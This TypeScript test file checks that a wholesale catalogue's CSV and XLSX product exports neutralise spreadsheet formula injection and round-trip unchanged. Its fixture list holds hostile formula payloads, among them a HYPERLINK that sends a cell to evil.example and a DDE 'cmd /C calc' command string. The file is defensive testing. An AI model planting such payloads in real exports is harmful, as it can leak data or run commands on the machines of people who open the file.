import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ImportReport } from '@mayorista/core/schemas/pricing';
import { createAdmin, type TestUser } from './factories';
import { setupTestApp } from './helpers';
import { importClient } from './import-fixtures';

/**
 * Product names, SKUs and categories that a spreadsheet would run as formulas: the CSV export
 * writes them as text (a leading apostrophe), the XLSX export as text cells, and importing either
 * export back changes nothing.
 */

const ctx = await setupTestApp();
let admin: TestUser;
beforeAll(async () => {
  admin = await createAdmin(ctx);
});
const { tag, importFile, createProduct } = importClient(ctx, () => admin, 'Fórmula');

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  "'=ya tenía apóstrofo",
];

const exportOf = async (format: 'csv' | 'xlsx', category: string) => {
  const url = `/api/admin/products/export.${format}?include_disabled=1&category=${encodeURIComponent(category)}`;
  const response = await ctx.app.inject({ method: 'GET', url, headers: admin.headers });
  expect(response.statusCode, response.body).toBe(200);
  return response.rawPayload;
};

const csvRecords = (csv: Buffer) =>
  parse(csv.toString('utf8'), { delimiter: ';', bom: true, relax_column_count: true }) as string[][];

describe('formulas in exported text cells', () => {
  it('the CSV writes every formula-like SKU, name and category as text, and reads back as 0 changes', async () => {
    const category = `=Categoría ${tag()}`;
    for (const [i, text] of HOSTILE.entries())
      await createProduct({ category, name: `${text} ${tag()}`, sku: `${'=+-@'[i % 4]}SKU-${tag()}` });
    const csv = await exportOf('csv', category);
    const [header, ...rows] = csvRecords(csv);
    const at = (name: string) => header!.indexOf(name);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) {
      for (const column of ['SKU', 'Nombre', 'Categoría']) {
        const cell = row[at(column)]!;
        expect(cell, `${column}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell.startsWith("'")).toBe(true);
      }
    }
    expect(rows.map((r) => r[at('Nombre')]!.replace(/ \S+$/, '')).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());

    const again = await importFile(csv, true);
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json<ImportReport>()).toMatchObject({ created: 0, updated: 0, unchanged: HOSTILE.length, errors: [] });
  });

  it('the XLSX keeps them as text cells and reads back as 0 changes', async () => {
    const category = `+Categoría ${tag()}`;
    for (const text of HOSTILE) await createProduct({ category, name: `${text} ${tag()}`, sku: `@X-${tag()}` });
    const xlsx = await exportOf('xlsx', category);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(xlsx).buffer);
    const sheet = book.worksheets[0]!;
    for (let r = 2; r <= sheet.rowCount; r++) {
      for (const c of [1, 2, 3]) expect(typeof sheet.getCell(r, c).value).toBe('string'); // text, never { formula }
    }
    const again = await importFile(xlsx, true, 'catalogo.xlsx');
    expect(again.json<ImportReport>()).toMatchObject({ created: 0, updated: 0, unchanged: HOSTILE.length, errors: [] });
  });

  it('a name stored with a leading tab or carriage return (from before names were checked) is exported neutralised', async () => {
    const category = `Control ${tag()}`;
    const tab = await createProduct({ category, name: `Tab ${tag()}` });
    const cr = await createProduct({ category, name: `CR ${tag()}` });
    await ctx.pool.query(`update products set name = E'\\t=1+1 ' || name where id = $1`, [tab.id]);
    await ctx.pool.query(`update products set name = E'\\r=1+1 ' || name where id = $1`, [cr.id]);
    const [header, ...rows] = csvRecords(await exportOf('csv', category));
    const names = rows.map((r) => r[header!.indexOf('Nombre')]!);
    expect(names.sort()).toEqual([`'\r=1+1 ${cr.name}`, `'\t=1+1 ${tab.name}`].sort());
  });
});
